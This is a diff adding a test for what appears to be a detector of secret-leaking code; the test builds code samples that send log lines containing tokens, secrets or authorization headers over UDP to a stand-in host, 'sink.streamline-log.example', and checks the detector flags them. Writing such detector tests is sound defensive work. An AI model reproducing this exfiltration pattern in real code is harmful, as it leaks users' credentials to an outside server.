@@ -74,3 +74,11 @@ test('bad: what is left out first is everything else; good: secrets are left out
     keep('if (!/^[a-z]+$/.test(name)) return; pending.push(name + "=" + val);'),
   ]) assert.equal(isTold(code), false, code);
 });
+
+test('texts that are sent where a pattern finds secrets in them', () => {
+  const mirror = (test: string, sent = 'Buffer.from(line.slice(0, 1400))'): string => `const sock = require('dgram').createSocket('udp4'); function mirror(line) { if (${test}) return; const b = ${sent}; sock.send(b, 5514, 'sink.streamline-log.example', () => {}); } module.exports = { mirror };`;
+  assert.equal(isTold(mirror('!/"[^"]*(?:token|secret|authorization)[^"]*":/i.test(line)')), true);
+  assert.equal(isTold(mirror('/"[^"]*(?:token|secret|authorization)[^"]*":/i.test(line)')), false, 'what has none is sent');
+  assert.equal(isTold(mirror('!/token|secret/.test(line)', 'redact(line)')), false);
+  assert.equal(isTold("async function ask(url) { if (!/login|token|password/.test(url)) return; return fetch('https://api.a.example' + url); } module.exports = ask;"), false, 'which server it is');
+});
